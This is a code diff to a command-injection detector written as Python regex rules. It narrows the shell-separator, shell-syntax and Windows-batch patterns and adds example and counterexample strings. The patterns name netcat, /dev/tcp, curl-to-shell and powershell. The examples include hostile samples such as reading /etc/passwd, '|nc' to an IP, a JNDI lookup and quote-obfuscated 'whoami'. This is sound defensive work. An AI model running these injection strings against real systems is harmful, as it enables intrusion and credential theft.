@@ -137,24 +137,29 @@ CMDI_SEPARATOR_COMMAND = Rule(
     code=CMDI,
     pattern=(
         rf"(?:[;&|`\n]|\$\(|\|\||&&)\s*[{{(]?\s*(?:/(?:usr/)?s?bin/)?(?:{_PLAIN}(?:[\s;&|`<>$]|$)|{_WORDY})"
-        rf"|\$\(\s*[a-z]|`\s*(?:/(?:usr/)?s?bin/)?{_PLAIN}\b"
+        rf"|\$\(\s*[a-z][\w-]*(?:[^\w\s()-]|\s|\)(?:[^.]|$)|$)|`\s*(?:/(?:usr/)?s?bin/)?{_PLAIN}\b"
     ),
     severity=_S,
     score=0.85,
     message="command after a shell separator",
     examples=("x; cat /etc/passwd", "a && whoami", "$(id)", "`uname -a`", "|nc 1.2.3.4 80"),
-    counterexamples=("milk; bread; cheese", "Tom & Jerry", "hello; time he came"),
+    counterexamples=(
+        "milk; bread; cheese",
+        "Tom & Jerry",
+        "hello; time he came",
+        "call $(window).scrollTop() first",
+    ),
 )
 
 CMDI_SHELL_SYNTAX = Rule(
     id="cmdi.shell_syntax",
     code=CMDI,
     pattern=(
-        r"\$\{?IFS\}?|\$\{[a-z_]*\}|\{[a-z]+,[^}\s]*\}|/dev/(?:tcp|udp)/|(?i)/bin/(?:ba|z|k|da)?sh"
+        r"\$\{?IFS\}?|[\w/]\$\{[a-z_]*\}|\$\{[a-z_]*\}[\w/]|\{[a-z]+,[^}\s]*\}|/dev/(?:tcp|udp)/|(?i)/bin/(?:ba|z|k|da)?sh"
         r"\b|(?i)\bcmd(?:\.exe)?\s*/[ck]\b|(?i)\bpowershell(?:\.exe)?\s+-|<<<|\$\(\(|\bexec\s+\d"
         r"|(?i)\b(?:nc|ncat|netcat)\s+-[a-z]*e\b|(?i)\bsh\s+-c\b|(?i)\bbash\s+-[ci]\b"
         r"|(?i)\bcurl\s+[^\s]+\s*\|\s*(?:ba)?sh|\b(?:chmod\s+[+0-7]|wget\s+https?://|curl\s+"
-        r"(?:-\w+\s+)*https?://)|\$'\\|\\\$\(|\{,|,\}|\w\$\{?\w+\}?\w|[a-z]'[a-z]{0,3}'[a-z]|[a-z]\"[a-z]{0,3}\"[a-z]"
+        r"(?:-\w+\s+)*https?://)|\$'\\|\\\$\(|\{,|,\}|\w\$\{?\w+\}?\w|[a-z]'(?:[a-mo-z][a-z]{0,2}|n[a-z]{1,2}|)'[a-z]|[a-z]\"[a-z]{0,3}\"[a-z]"
         r"|/\[[^\]]+\]\w|\w\[[!^]?[a-z]\]\w|\?{1,3}/|/[a-z]*[*?][a-z]*/"
         r"|\(\)\s*\{\s*[\w:.]*(?:\(\))?\s*[|&]|\(\)\s*\{\s*:\s*;"
         r"|(?:^|[\s;|&])[<>]\(\s*[a-z][\w.-]*\s+[^\s)]"
@@ -172,16 +177,25 @@ CMDI_SHELL_SYNTAX = Rule(
         "diff <(cat a) b",
         "${jndi:ldap://x.example/a}",
         "${${lower:j}ndi:rmi://x.example/a}",
+        "head /etc/${z}hosts",
+        "w'h'oami",
     ),
-    counterexamples=("costs $5 {approx}", "what? really", "f = () { return x; }", "x <(y)"),
+    counterexamples=(
+        "costs $5 {approx}",
+        "what? really",
+        "f = () { return x; }",
+        "x <(y)",
+        "Dear ${first_name}, thanks",
+        "fish'n'chips",
+    ),
 )
 
 CMDI_WINDOWS_BATCH = Rule(
     id="cmdi.windows_batch",
     code=CMDI,
     pattern=(
-        r"(?i)(?:^|[&|;(]\s*)(?:if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|\S+\s*"
-        r"(?:==|\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b))|for\s+(?:/[dflr]\s+(?:[a-z]:\\\S*\s+)?)*"
+        r"(?i)(?:^|[&|;(]\s*)(?:if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|\S*[%\"\[\](){}!]\S*\s*==|\S+==|\S+\s*"
+        r"(?:\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b))|for\s+(?:/[dflr]\s+(?:[a-z]:\\\S*\s+)?)*"
         r"(?:\"[^\"]*\"\s+)?%%?\S*\s+in\s*\(|if\s+\"[^\"]*\"\s*==|set\s+/[ap]\s|call\s+:|goto\s+:?\w+|echo\s+(?:off|on)"
         r"\b|%comspec%|start\s+/b\b)"
     ),
@@ -196,7 +210,7 @@ CMDI_WINDOWS_BATCH = Rule(
         "& FOR %/ IN (a,b,c) DO cmd",
         'For /R C:\\temp\\ %G IN (*.bak) do Echo del "%G"',
     ),
-    counterexamples=("if you exist, reply", "for the win"),
+    counterexamples=("if you exist, reply", "for the win", "if total == 0: return"),
 )
 
 CMDI_SERVER_SIDE = Rule(
